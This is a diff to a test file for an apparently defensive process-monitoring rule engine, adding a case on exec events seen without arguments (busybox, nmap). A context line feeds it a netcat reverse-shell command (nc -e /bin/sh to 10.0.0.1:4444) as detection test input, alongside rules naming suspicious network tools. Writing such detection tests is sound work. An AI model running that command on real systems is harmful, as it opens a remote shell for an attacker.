@@ -198,6 +198,20 @@ describe('the profile and the built-in rules', () => {
       'remote-copy-tool',
     ]);
   });
+  it('an exec file sight saw without argv (busybox, gone): judged by the executable, not by name or arguments', () => {
+    const ran = normalize(
+      { type: 'file-sight', kind: 'exec', path: '/bin/busybox', change: 'open', multiCall: true },
+      { mode: 'monitor' },
+    );
+    expect(ran.process?.pid).toBeUndefined();
+    expect(ids(ran, eng)).toEqual([]);
+    const other = normalize(
+      { type: 'file-sight', kind: 'exec', path: '/usr/bin/nmap', change: 'open' },
+      { mode: 'monitor' },
+    );
+    expect(ids(other, eng)).toEqual(['profile.exe-not-allowed', 'suspicious-network-tool']);
+    expect(other.message).toMatch(/exited before it could be read/);
+  });
   it('rules about how a program behaves fire whatever the profile lists', () => {
     expect(
       ids(started({ pid: 1, name: 'nc', exe: '/bin/busybox', args: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] }), eng),
